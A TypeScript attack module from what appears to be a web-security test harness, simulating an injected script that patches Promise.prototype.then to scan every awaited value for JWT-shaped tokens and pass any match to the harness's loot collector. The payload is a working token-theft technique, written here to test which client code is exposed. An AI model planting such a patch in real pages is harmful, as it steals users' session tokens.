// Threat: a script injected into the page replaces `Promise.prototype.then` and looks at every value that is waited for. The attacker
// has one hole in the page's HTML. Expected: clients that chain with then() hand over what they wait for; `await` on a native promise
// does not ask then().
import type { Attack } from '../attack.ts'
import { press } from '../scene.ts'
import { awaitLoot, judgeToken, readBook, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = (kit) => {
  const original = Promise.prototype.then
  const look = (value: unknown): void => {
    let text = ''
    try {
      text = JSON.stringify(value) ?? ''
    } catch {
      return
    }
    const token = /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(text)?.[0]
    if (token === undefined) return
    // oxlint-disable-next-line no-extend-native, unicorn/no-thenable -- this is the attack
    Promise.prototype.then = original
    kit.take('token', token)
    void kit.flush()
  }
  // oxlint-disable-next-line no-extend-native, unicorn/no-thenable -- this is the attack
  Promise.prototype.then = function patched(done, failed) {
    const next = done as ((value: unknown) => unknown) | null | undefined
    const seen = next && ((value: unknown) => (look(value), next(value)))
    return original.call(this, seen, failed) as never
  }
}

export const patchThen: Attack = {
  name: 'patch-then',
  group: 'script, late',
  title: 'Replaces Promise.prototype.then',
  what: 'The script looks at everything the page waits for, and picks out what looks like a token.',
  why: 'A promise that is continued with then() hands its value to whatever function stands there.',
  stops: 'Code that uses await on native promises is not seen; a token that script never holds is not either.',
  script: { when: 'late', payload: script },
  control: 'tutorial',
  succeedsOn: ['tutorial'],
  async run(scene) {
    const page = await scene.signIn()
    await scene.injectLate(script)
    await readBook(page)
    const installed = await scriptReport(scene)
    await press(page, '#show', 'profile: 200')
    const report = installed.ran ? { ...(await awaitLoot(scene, 'token')), ran: true } : installed
    return judgeToken(scene, page, report, 'saw no token in any promise')
  },
}
